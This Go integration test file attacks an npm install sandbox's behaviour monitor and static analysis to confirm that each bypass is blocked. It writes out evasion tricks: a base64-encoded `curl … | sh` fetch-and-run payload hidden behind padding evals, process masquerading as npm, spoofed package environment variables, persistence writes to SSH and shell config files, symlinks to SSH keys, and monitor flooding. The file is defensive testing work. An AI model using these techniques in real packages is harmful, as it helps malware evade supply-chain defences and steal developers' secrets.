package integration

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Attacker review of the behaviour monitor (issue 13): cheap ways for an install
// script to try the network without the high PB-BEHAVIOUR-NETWORK finding that
// blocks the install. Each attack has its legitimate twin, which must still
// install.

// pingJS connects to the stand-in attacker address and swallows the error (the
// build has no network: the connect is the attempt the monitor must judge).
const pingJS = "require('net').connect(443, '203.0.113.9').on('error', () => {})\n"

// A package's own install script names a prebuilt-binary fetcher's path as a
// mere extra argument: the recorder takes any argument containing
// node_modules/prebuild-install/ for the fetcher, and a fetcher's network attempt
// is only a warning (medium). The connect to an IP address must still block.
func TestAttackDetectFetcherArgument(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		// The legitimate twin: a native package whose install runs the real
		// fetcher's bin (a dependency named prebuild-install), which tries to look
		// its download host up, fails offline, and builds from source.
		g := detectProject(t, m, map[string]map[string]string{
			"prebuild-install": {
				"package.json": `{"name":"prebuild-install","version":"1.0.0","bin":{"prebuild-install":"bin.js"}}`,
				"bin.js":       "#!/usr/bin/env node\nrequire('dns').lookup('github.com', () => process.exit(1))\n",
			},
			"pbox-native": {
				"package.json": `{"name":"pbox-native","version":"1.0.0","scripts":{"install":"prebuild-install || node build.js"}}`,
				"build.js":     "require('fs').writeFileSync(__dirname + '/built.txt', 'ok')\n",
			},
		})
		r := g.tool("", "npm", "install")
		wantCode(t, r, 0, "a native package whose prebuilt download fails offline and builds from source")
		wantFile(t, filepath.Join(g.Project, "node_modules", "pbox-native", "built.txt"), "the twin's build output is synced")

		b := detectProject(t, m, map[string]map[string]string{
			"pbox-fakefetch": {
				"package.json": `{"name":"pbox-fakefetch","version":"1.0.0","scripts":{"postinstall":"node ping.js node_modules/prebuild-install/"}}`,
				"ping.js":      pingJS,
			},
		})
		before := treeHash(t, b.Project, true)
		r = b.tool("", "npm", "install")
		wantCode(t, r, 3, "a connect to 203.0.113.9:443 by a script that only names prebuild-install in its arguments")
		wantStderr(t, r, "pbox-fakefetch@1.0.0", "PB-BEHAVIOUR-NETWORK", "203.0.113.9:443")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
	})
}

// mimicHide is an install script that hands its work to a process the monitor
// files under "the package manager itself", which is never judged: a shell with
// an empty environment starts a subshell and exits; the orphaned subshell, with
// no npm_package_name in its environment, no node_modules in its working
// directory and no package among its parents any more, runs the package's own
// file named npm-cli.js — `node …/npm-cli.js` is npm's command line. The script
// waits for it to finish (the container would end first otherwise).
const mimicHide = `d=$(pwd)
env -i PATH="$PATH" D="$d" P="$PROG" sh -c 'p=$$; (while kill -0 $p 2>/dev/null; do sleep 0.1; done; cd /; exec node "$D/$P") </dev/null >/dev/null 2>&1 &'
n=0
while [ ! -e "$d/done" ] && [ $n -lt 600 ]; do sleep 0.1; n=$((n+1)); done
`

// A package's orphaned process that looks like npm (`node …/npm-cli.js`) connects
// out: the recorder marks it Manager and judgeBehaviour only logs it.
func TestAttackDetectManagerLookalike(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		// The legitimate twin: the same background helper that only builds a file.
		g := detectProject(t, m, map[string]map[string]string{
			"pbox-bghelper": {
				"package.json": `{"name":"pbox-bghelper","version":"1.0.0","scripts":{"postinstall":"PROG=build.js sh hide.sh"}}`,
				"hide.sh":      mimicHide,
				"build.js":     "require('fs').writeFileSync(__dirname + '/done', 'built')\n",
			},
		})
		r := g.tool("", "npm", "install")
		wantCode(t, r, 0, "a postinstall whose background helper builds a file")
		wantFile(t, filepath.Join(g.Project, "node_modules", "pbox-bghelper", "done"), "the twin's build output is synced")

		b := detectProject(t, m, map[string]map[string]string{
			"pbox-mimic": {
				"package.json": `{"name":"pbox-mimic","version":"1.0.0","scripts":{"postinstall":"PROG=npm-cli.js sh hide.sh"}}`,
				"hide.sh":      mimicHide,
				"npm-cli.js": "const fs = require('fs'), done = () => fs.writeFileSync(__dirname + '/done', 'ran')\n" +
					"const s = require('net').connect(443, '203.0.113.9'); s.on('error', done); s.on('connect', done)\n",
			},
		})
		before := treeHash(t, b.Project, true)
		r = b.tool("", "npm", "install")
		if r.Code == 0 {
			if _, err := os.Stat(filepath.Join(b.Project, "node_modules", "pbox-mimic", "done")); err == nil {
				t.Errorf("BYPASS: the orphaned npm look-alike connected to 203.0.113.9:443 and the install passed")
			}
		}
		wantCode(t, r, 3, "a connect to 203.0.113.9:443 by a package's process shaped like npm's command line")
		wantStderr(t, r, "PB-BEHAVIOUR-NETWORK", "203.0.113.9:443")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
	})
}

// The static analysis keeps the first 64 matches of each pattern before it drops
// the harmless ones (eval of a string literal): 64 `eval("0")` in front of a
// require-time payload hide its eval from PB-ANALYSIS-EVAL-DECODE (high), and
// nothing else sees code that runs only when the application require()s it.
func TestAttackDetectAnalysisMatchCap(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		padding := strings.Repeat("eval(\"0\");\n", 64)
		// The legitimate twin: the same literal evals, nothing decoded.
		g := detectProject(t, m, map[string]map[string]string{
			"pbox-literals": {
				"package.json": `{"name":"pbox-literals","version":"1.0.0","main":"index.js"}`,
				"index.js":     padding + "module.exports = 1\n",
			},
		})
		r := g.tool("", "npm", "install")
		wantCode(t, r, 0, "a package whose entry evaluates string literals")
		wantFile(t, filepath.Join(g.Project, "node_modules", "pbox-literals", "index.js"), "the twin is installed")

		payload := base64.StdEncoding.EncodeToString([]byte("require('child_process').exec('curl -s http://203.0.113.9/x | sh')"))
		b := detectProject(t, m, map[string]map[string]string{
			"pbox-padded": {
				"package.json": `{"name":"pbox-padded","version":"1.0.0","main":"index.js"}`,
				"index.js":     padding + "module.exports = 1;\nconst x = Buffer.from('" + payload + "', 'base64').toString();\neval(x);\n",
			},
		})
		before := treeHash(t, b.Project, true)
		r = b.tool("", "npm", "install")
		wantCode(t, r, 3, "an eval of a decoded base64 blob behind 64 literal evals")
		wantStderr(t, r, "pbox-padded@1.0.0", "PB-ANALYSIS-EVAL-DECODE")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
	})
}

// A process's own environment decides whose it is, before what its exec said: a
// script that sets npm_package_name and npm_package_version to another package's
// before starting node has its connect filed under that package — and when the
// user's policy ignores the network rule for that one (a telemetry ping judged a
// false alarm), the attack is ignored with it.
func TestAttackDetectSpoofedPackageEnv(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		pinger := map[string]string{
			"package.json": `{"name":"pbox-pinger","version":"1.0.0","scripts":{"postinstall":"node ping.js"}}`,
			"ping.js":      pingJS,
		}
		ignore := func(b *pmBox) {
			writeFile(t, filepath.Join(b.Home, ".config", "phylum-box", "policy.yaml"),
				"ignore:\n  - {id: \"PB-BEHAVIOUR-NETWORK\", package: \"pbox-pinger@1.0.0\", reason: \"pings its telemetry host; fails offline anyway\"}\n", 0o644)
			chownTree(t, m, b.Home)
		}
		// The legitimate twin: the ignored package alone installs.
		g := detectProject(t, m, map[string]map[string]string{"pbox-pinger": pinger})
		ignore(g)
		r := g.tool("", "npm", "install")
		wantCode(t, r, 0, "the user's policy ignores pbox-pinger's network attempt")

		b := detectProject(t, m, map[string]map[string]string{
			"pbox-pinger": pinger,
			"pbox-spoof": {
				"package.json": `{"name":"pbox-spoof","version":"1.0.0","scripts":{"postinstall":"npm_package_name=pbox-pinger npm_package_version=1.0.0 node steal.js"}}`,
				"steal.js":     "require('net').connect(443, '198.51.100.7').on('error', () => {})\n",
			},
		})
		ignore(b)
		before := treeHash(t, b.Project, true)
		r = b.tool("", "npm", "install")
		wantCode(t, r, 3, "pbox-spoof's connect to 198.51.100.7:443 under pbox-pinger's name")
		wantStderr(t, r, "pbox-spoof@1.0.0", "PB-BEHAVIOUR-NETWORK", "198.51.100.7:443")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")

	})
}

// phylum-box analyze ./DIR copies the directory into its throwaway project:
// symlinks are left out, so one to the caller's SSH key, a hard link's target
// outside the package or a nested node_modules never reaches the sandbox, where
// an install script prints whatever it finds.
func TestAttackAnalyzeLocalDirLinks(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		b := newPMBox(t, m)
		show := "const fs = require('fs'); for (const f of ['key', 'keydir/id_rsa', 'node_modules/x/key']) { try { console.log('READ ' + f + ': ' + fs.readFileSync(__dirname + '/' + f, 'utf8')) } catch (e) { console.log('NONE ' + f) } }\n"
		pkg := filepath.Join(b.Project, "pkg")
		writeFile(t, filepath.Join(pkg, "package.json"), `{"name":"pbox-links","version":"1.0.0","scripts":{"postinstall":"node show.js"}}`, 0o644)
		writeFile(t, filepath.Join(pkg, "show.js"), show, 0o644)
		chownTree(t, m, b.Project)

		// The legitimate twin: the plain directory is analysed and passes.
		r := b.tool("", "analyze", "./pkg")
		wantCode(t, r, 0, "analyze of a local package that prints what it finds")
		if !strings.Contains(r.Stdout+r.Stderr, "NONE key") {
			t.Fatalf("the install script did not run\n%s", r)
		}

		for _, l := range []struct{ name, target string }{
			{"key", filepath.Join(b.Home, ".ssh", "id_rsa")},
			{"keydir", filepath.Join(b.Home, ".ssh")},
			{"node_modules", filepath.Join(b.Home, ".ssh")},
		} {
			if err := os.Symlink(l.target, filepath.Join(pkg, l.name)); err != nil {
				t.Fatal(err)
			}
		}
		chownTree(t, m, b.Project)
		r = b.tool("", "analyze", "./pkg")
		if strings.Contains(r.Stdout+r.Stderr, b.Mark) {
			t.Fatalf("the caller's SSH key reached the analysed package's install script\n%s", r)
		}
		wantCode(t, r, 0, "analyze of the package with symlinks to the caller's secrets (left out)")
		wantStderr(t, r, "NONE key", "NONE keydir/id_rsa")
	})
}

// The same without any ignore entry: a name on the known-downloaders list
// (prisma) makes a network attempt only a warning, and any install script can
// claim it. The twin (a package named on the list) cannot be published under
// that name here; TestAttackDetectSpoofedPackageEnv's twin covers an ignored
// package installing.
func TestAttackDetectSpoofedDownloaderName(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		// The legitimate twin: a script that passes its own lifecycle variables on
		// to the program it starts, which builds a file.
		g := detectProject(t, m, map[string]map[string]string{
			"pbox-passes-env": {
				"package.json": `{"name":"pbox-passes-env","version":"1.0.0","scripts":{"postinstall":"npm_package_name=$npm_package_name node build.js"}}`,
				"build.js":     "require('fs').writeFileSync(__dirname + '/built.txt', process.env.npm_package_name)\n",
			},
		})
		r := g.tool("", "npm", "install")
		wantCode(t, r, 0, "a postinstall that builds a file")
		wantFile(t, filepath.Join(g.Project, "node_modules", "pbox-passes-env", "built.txt"), "the twin's build output is synced")

		d := detectProject(t, m, map[string]map[string]string{
			"pbox-prisma-spoof": {
				"package.json": `{"name":"pbox-prisma-spoof","version":"1.0.0","scripts":{"postinstall":"npm_package_name=prisma npm_package_version=5.0.0 node steal.js"}}`,
				"steal.js":     "require('net').connect(443, '198.51.100.7').on('error', () => {})\n",
			},
		})
		before := treeHash(t, d.Project, true)
		r = d.tool("", "npm", "install")
		wantCode(t, r, 3, "pbox-prisma-spoof's connect to 198.51.100.7:443 under prisma's name")
		wantStderr(t, r, "pbox-prisma-spoof@1.0.0", "PB-BEHAVIOUR-NETWORK", "198.51.100.7:443")
		assertSameTree(t, before, treeHash(t, d.Project, true), "a blocked install")
	})
}

// Persistence the decoys do not cover: the writes stay in the sandbox's $HOME
// (nothing reaches the host), but they are as plain a sign of malice as a write
// to ~/.bashrc, which is blocked: ~/.ssh/authorized_keys, ~/.ssh/config (its
// ProxyCommand runs a program), ~/.bash_profile (bash reads it before
// ~/.profile), ~/.config/fish/config.fish, ~/.gitconfig (core.pager,
// core.sshCommand, aliases run programs) and a ~/.local/bin shadow of git.
func TestAttackDetectPersistenceNotDecoyed(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		// The legitimate twin: a build that keeps a cache in ~/.cache.
		g := detectProject(t, m, map[string]map[string]string{
			"pbox-cacher": {
				"package.json": `{"name":"pbox-cacher","version":"1.0.0","scripts":{"postinstall":"node cache.js"}}`,
				"cache.js": "const fs = require('fs'), h = require('os').homedir(); fs.mkdirSync(h + '/.cache/pbox', { recursive: true }); " +
					"fs.writeFileSync(h + '/.cache/pbox/x', 'cached'); fs.writeFileSync(__dirname + '/built.txt', 'ok')\n",
			},
		})
		r := g.tool("", "npm", "install")
		wantCode(t, r, 0, "a build that keeps a cache in ~/.cache")
		wantFile(t, filepath.Join(g.Project, "node_modules", "pbox-cacher", "built.txt"), "the twin's build output is synced")

		for _, target := range []string{".ssh/authorized_keys", ".ssh/config", ".bash_profile", ".config/fish/config.fish", ".gitconfig", ".local/bin/git"} {
			t.Run(strings.ReplaceAll(target, "/", "_"), func(t *testing.T) {
				js := "try { const fs = require('fs'), p = require('path'), f = p.join(require('os').homedir(), " + "'" + target + "'); " +
					"fs.mkdirSync(p.dirname(f), { recursive: true }); fs.appendFileSync(f, '\\n# pbox\\n') } catch (e) {}\n"
				b := detectProject(t, m, map[string]map[string]string{
					"pbox-persist": {
						"package.json": `{"name":"pbox-persist","version":"1.0.0","scripts":{"postinstall":"node p.js"}}`,
						"p.js":         js,
					},
				})
				before := treeHash(t, b.Project, true)
				r := b.tool("", "npm", "install")
				if data, err := os.ReadFile(filepath.Join(b.Home, target)); err == nil && strings.Contains(string(data), "# pbox") {
					t.Fatalf("the write to ~/%s reached the caller's home", target)
				}
				wantCode(t, r, 3, "a postinstall that writes ~/"+target)
				wantStderr(t, r, "pbox-persist@1.0.0", "PB-BEHAVIOUR-PERSISTENCE")
				assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
			})
		}
	})
}

// The recorder keeps at most 4096 hits and drops the rest with a note: 4200
// short-lived processes that each detach (setsid, medium: a warning) fill it, and
// the connect that follows (high) is never judged.
func TestAttackDetectMonitorFlood(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		// 4200 processes that each call setsid: more hits than the recorder
		// keeps (maxHits, 4096). A fork without an exec is a tenth of the cost
		// of `setsid true` in a shell loop, the same setsid call to the monitor.
		flood := "perl -e 'use POSIX; for (1..4200) { my $p = fork; if (!$p) { POSIX::setsid(); POSIX::_exit(0) } waitpid($p, 0) }'; "
		// The legitimate twin (noisy, not malicious): the same flood of
		// detaching helpers only warns.
		g := detectProject(t, m, map[string]map[string]string{
			"pbox-noisy": {
				"package.json": `{"name":"pbox-noisy","version":"1.0.0","scripts":{"postinstall":"sh flood.sh"}}`,
				"flood.sh":     flood + "echo ok > built.txt\n",
			},
		})
		r := g.tool("", "npm", "install")
		wantCode(t, r, 0, "a postinstall that starts 4200 detaching helpers")
		wantFile(t, filepath.Join(g.Project, "node_modules", "pbox-noisy", "built.txt"), "the twin's build output is synced")
		wantStderr(t, r, "pbox-noisy@1.0.0", "PB-BEHAVIOUR-DETACH")

		b := detectProject(t, m, map[string]map[string]string{
			"pbox-flood": {
				"package.json": `{"name":"pbox-flood","version":"1.0.0","scripts":{"postinstall":"sh flood.sh"}}`,
				"flood.sh":     flood + "node ping.js\n",
				"ping.js":      pingJS,
			},
		})
		before := treeHash(t, b.Project, true)
		r = b.tool("", "npm", "install")
		wantCode(t, r, 3, "a connect to 203.0.113.9:443 after 4200 detaching helpers")
		wantStderr(t, r, "pbox-flood@1.0.0", "PB-BEHAVIOUR-NETWORK", "203.0.113.9:443")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")
	})
}
